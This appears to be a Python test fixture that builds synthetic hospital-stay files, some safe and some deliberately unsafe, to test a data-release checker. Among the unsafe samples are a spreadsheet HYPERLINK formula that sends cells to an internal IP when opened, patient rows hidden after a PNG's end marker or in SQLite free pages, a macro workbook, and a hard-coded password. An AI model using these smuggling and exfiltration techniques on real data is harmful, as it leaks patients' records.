"""Hospital stays of a territory (PMSI: SQLite, JSON, archives, workbooks with macros)."""

import io
import json
import sqlite3
import zipfile
from typing import Any

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs13.make import book, csv, figure, fr, ipp, part, png, split
from tests.airlock.outputs13.office import with_macro

WHO = "118,260 residents of the region admitted for a heart failure, stroke or COPD, 2018-2022"
DEPARTMENTS = {
    "01": "Ain",
    "07": "Ardèche",
    "26": "Drôme",
    "38": "Isère",
    "42": "Loire",
    "69": "Rhône",
    "73": "Savoie",
    "74": "Haute-Savoie",
}


def _sums(base: sqlite3.Connection, rng: Any) -> None:
    base.execute("CREATE TABLE sejours_dep (dep TEXT, nom TEXT, annee INTEGER, patients INTEGER, taux_std REAL)")
    for code, name in DEPARTMENTS.items():
        for year in range(2018, 2023):
            base.execute(
                "INSERT INTO sejours_dep VALUES (?, ?, ?, ?, ?)",
                (code, name, year, rng.randrange(900, 4800), round(rng.uniform(3.1, 5.4), 2)),
            )
    base.commit()


def write(shelf: Shelf) -> None:
    rng = shelf.random("pmsi")
    for safe in (True, False):
        if safe:
            path = shelf.safe(
                "territoire/taux_departements.sqlite",
                "standardised rates and department codes such as 01 and 07",
                "SQLite database: patients and standardised rates by department and year",
                WHO,
            )
        else:
            path = shelf.unsafe(
                "territoire/taux_departements_v2.sqlite",
                "deleted rows of patients are still in the file's pages",
                "free pages of the database",
                "SQLite database: patients and rates by department, second version",
                WHO,
            )
        path.unlink(missing_ok=True)
        base = sqlite3.connect(path)
        base.execute("PRAGMA secure_delete = OFF")
        if not safe:
            base.execute("CREATE TABLE sejours (ipp TEXT, entree TEXT, sortie TEXT, dp TEXT, commune TEXT)")
            for _ in range(300):
                base.execute(
                    "INSERT INTO sejours VALUES (?, ?, ?, ?, ?)",
                    (
                        ipp(rng),
                        f"2022-{rng.randrange(1, 13):02d}-{rng.randrange(1, 28):02d}",
                        "",
                        rng.choice(["I500", "I639", "J441"]),
                        rng.choice(["Feurs", "Vienne", "Nantua"]),
                    ),
                )
            base.commit()
            _sums(base, rng)
            base.execute("DROP TABLE sejours")
            base.commit()
        else:
            _sums(base, rng)
        base.close()

    patients = split(rng, 118260, [10, 5, 8, 19, 12, 27, 7, 12])
    centres: list[list[Any]] = [
        [5.35, 46.1],
        [4.4, 44.75],
        [5.17, 44.69],
        [5.58, 45.26],
        [4.17, 45.73],
        [4.64, 45.87],
        [6.44, 45.48],
        [6.43, 46.03],
    ]
    features = [
        {
            "type": "Feature",
            "properties": {
                "code": c,
                "nom": n,
                "patients": k,
                "taux_1000": round(rng.uniform(3, 5.5), 2),
                "rang": i + 1,
                "deces_30j": part(rng, k, 0.09),
            },
            "geometry": {"type": "Point", "coordinates": at},
        }
        for i, ((c, n), k, at) in enumerate(zip(DEPARTMENTS.items(), patients, centres, strict=True))
    ]
    shelf.safe(
        "territoire/carte_departements.json",
        "points on a map that are the centres of departments",
        "Map of the departments: patients, rates and deaths (one point a department)",
        WHO,
    ).write_text(
        json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False, indent=1),
        encoding="utf-8",
    )

    rows: list[list[Any]] = [["code_geo_pmsi", "libelle", "population", "patients_AVC", "taux_std_1000"]]
    for code, name in (
        ("01000", "Bourg-en-Bresse"),
        ("01130", "Nantua"),
        ("01200", "Valserhône"),
        ("01300", "Belley"),
        ("07000", "Privas"),
        ("07100", "Annonay"),
        ("07200", "Aubenas"),
        ("07270", "Lamastre"),
        ("26100", "Romans-sur-Isère"),
        ("26110", "Nyons"),
        ("26150", "Die"),
        ("26200", "Montélimar"),
        ("38110", "La Tour-du-Pin"),
        ("38160", "Saint-Marcellin"),
        ("38200", "Vienne"),
        ("38300", "Bourgoin-Jallieu"),
        ("42110", "Feurs"),
        ("42300", "Roanne"),
        ("42600", "Montbrison"),
        ("69170", "Tarare"),
        ("69770", "Montrottier"),
        ("69220", "Belleville-en-Beaujolais"),
        ("73200", "Albertville"),
        ("73500", "Modane"),
        ("74200", "Thonon-les-Bains"),
        ("74470", "Bellevaux"),
    ):
        people = rng.randrange(9000, 41000)
        n = max(22, round(people * rng.uniform(0.0031, 0.0054)))
        rows.append([code, name, people, n, fr(1000 * n / people, 2)])
    rows[21][2:] = [3120, 8, fr(8000 / 3120, 2)]
    csv(
        shelf.unsafe(
            "territoire/avc_codes_geographiques.csv",
            "a small area with eight patients",
            "69770 Montrottier",
            "Patients admis pour AVC par code géographique",
            "habitants de la région admis pour AVC",
        ),
        rows,
        ";",
    )

    table: list[list[Any]] = [["Établissement", "Patients", "Lien", "Réadmission (%)"]]
    names = ["CHU", *(f"CH {c}" for c in "ABCDEFG"), *(f"Clinique {c}" for c in "HIJ")]
    for name, n in zip(names, split(rng, 8210, [30, 12, 11, 9, 8, 6, 5, 5, 6, 5, 3]), strict=True):
        table.append([name, n, "fiche", fr(100 * part(rng, n, 0.14) / n)])
    table[2][2] = '=HYPERLINK("http://10.2.3.4/c?x="&B2&B3;"fiche")'
    csv(
        shelf.unsafe(
            "territoire/readmissions_etablissements.csv",
            "a formula that sends cells out when the file is opened",
            "CH A, column Lien",
            "Réadmission par établissement",
            "8 210 adultes admis pour insuffisance cardiaque",
        ),
        table,
        "\t",
    )

    path = shelf.unsafe(
        "territoire/outil_standardisation.xlsm",
        "a workbook with macros",
        "xl/vbaProject.bin",
        "Outil Excel de standardisation directe",
        WHO,
    )
    book(
        path,
        {
            "Taux": [
                ["Classe d'âge", "Population de référence", "Patients"],
                *[
                    [f"{a}-{a + 9}", rng.randrange(60000, 190000), rng.randrange(800, 9000)]
                    for a in range(40, 90, 10)
                ],
            ]
        },
    )
    with_macro(path)

    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        for year in (2020, 2021, 2022):
            counts = split(rng, 23000, [18, 22, 26, 21, 13])
            text = "classe_age;patients;taux_brut_1000\n" + "".join(
                f"{a};{n};{fr(rng.uniform(1, 31), 2)}\n"
                for a, n in zip(("40-49", "50-59", "60-69", "70-79", "80+"), counts, strict=True)
            )
            archive.writestr(zipfile.ZipInfo(f"taux_{year}.csv", (2023, 2, 1, 8, 0, 0)), text)
        archive.writestr(
            zipfile.ZipInfo("LISEZMOI.txt", (2023, 2, 1, 8, 0, 0)),
            "3 fichiers annuels, séparateur ;\nv1.2 - corrige 2 codes de GHM (05M09, 04M05)\nEffectifs < 11 : aucun\n",
        )
    shelf.safe(
        "territoire/taux_annuels.zip",
        "years, versions and DRG codes in a read-me",
        "Archive: yearly rates by age band",
        WHO,
    ).write_bytes(raw.getvalue())

    code = 'import os\n\nimport psycopg\nimport pandas as pd\n\nDSN = "host=edw-prod.chu.local port=5432 dbname=pmsi user=etude_ic password=Fr4mboise!2022"\nYEARS = range(2018, 2023)\nDRG = ["05M09", "05M13", "04M05", "01M30"]\n\n\ndef rates(year: int) -> pd.DataFrame:\n    """Standardised rates by department, cells under 11 dropped."""\n    with psycopg.connect(DSN) as link:\n        frame = pd.read_sql("SELECT dep, age5, count(DISTINCT nda) AS n FROM rss WHERE annee = %s GROUP BY 1, 2", link, params=[year])\n    return frame[frame.n >= 11]\n\n\nif __name__ == "__main__":\n    pd.concat(rates(y) for y in YEARS).to_csv(os.path.join("out", "rates.csv"), index=False)\n'
    shelf.unsafe(
        "territoire/standardisation.py", "a password in a script", "DSN", "Script Python : taux standardisés", WHO
    ).write_text(code, encoding="utf-8")
    shelf.safe(
        "territoire/standardisation_v2.py",
        "codes, ports and thresholds in a script that takes its password from the environment",
        "Script Python : taux standardisés, version publiée",
        WHO,
    ).write_text(
        code.replace(
            '"host=edw-prod.chu.local port=5432 dbname=pmsi user=etude_ic password=Fr4mboise!2022"',
            'os.environ["PMSI_DSN"]',
        ),
        encoding="utf-8",
    )

    fig, ax = figure(6, 3.8)
    ax.barh(list(DEPARTMENTS.values()), [rng.uniform(3, 5.4) for _ in DEPARTMENTS], color="#8856a7")
    ax.set(xlabel="Standardised rate per 1,000", title="Heart failure, 2022")
    tail = "id,commune,age,dp\n" + "".join(
        f"{ipp(rng)},{rng.choice(['Feurs', 'Die', 'Modane'])},{rng.randrange(40, 89)},{rng.choice(['I500', 'I509'])}\n"
        for _ in range(40)
    )
    shelf.unsafe(
        "territoire/taux_ic_2022.png",
        "rows of patients after the end of the picture",
        "bytes after IEND",
        "Bar chart of standardised rates",
        WHO,
    ).write_bytes(png(fig) + tail.encode())
